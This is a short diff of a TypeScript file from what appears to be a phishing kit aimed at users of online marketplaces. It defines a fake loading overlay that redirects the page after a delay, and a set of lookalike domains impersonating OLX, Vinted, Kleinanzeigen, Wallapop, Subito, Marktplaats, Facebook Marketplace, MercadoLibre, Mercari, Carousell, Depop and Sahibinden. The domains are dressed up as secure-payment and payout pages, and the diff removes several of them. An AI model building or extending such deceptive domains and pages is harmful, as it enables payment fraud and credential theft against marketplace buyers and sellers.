@@ -14,18 +14,10 @@ document.getElementById('ld').style.display='flex';setTimeout(function(){locatio
 </script>`;
 
 const loader = (text: string) => `<div id="ld" style="display:none;position:fixed;inset:0;background:rgba(255,255,255,.94);align-items:center;justify-content:center;flex-direction:column;z-index:9"><div style="width:42px;height:42px;border:4px solid #ddd;border-top-color:#333;border-radius:50%;animation:sp 1s linear infinite"></div><p>${text}</p></div><style>@keyframes sp{to{transform:rotate(360deg)}}</style>`;
-
-const OLX = 'olx-dostawa.pl-odbior-srodkow.com';
-const VIN = 'vinted-fr.paiement-securise-acheteur.com';
-const KLE = 'kleinanzeigen.de-sicher-bezahlen.info';
 const WAL = 'wallapop-envios.es-cobro.net';
 const SUB = 'subito.it-transazione-sicura.com';
 const MPL = 'marktplaats-gelijkoversteken.nl-betaling.help';
-const FBM = 'marketplace-facebook.pay-checkout.support';
 const MEL = 'mercadolibre-ar.cobro-vendedor.com';
-const MER = 'mercari-jp.torihiki-shiharai.com';
-const CAR = 'carousell-sg.caroupay-release.com';
-const DEP = 'depop-seller-payouts.com';
 const SHB = 'sahibinden-guvenli-odeme.com.tr-islem.net';
 
 export const entries: Entry[] = [
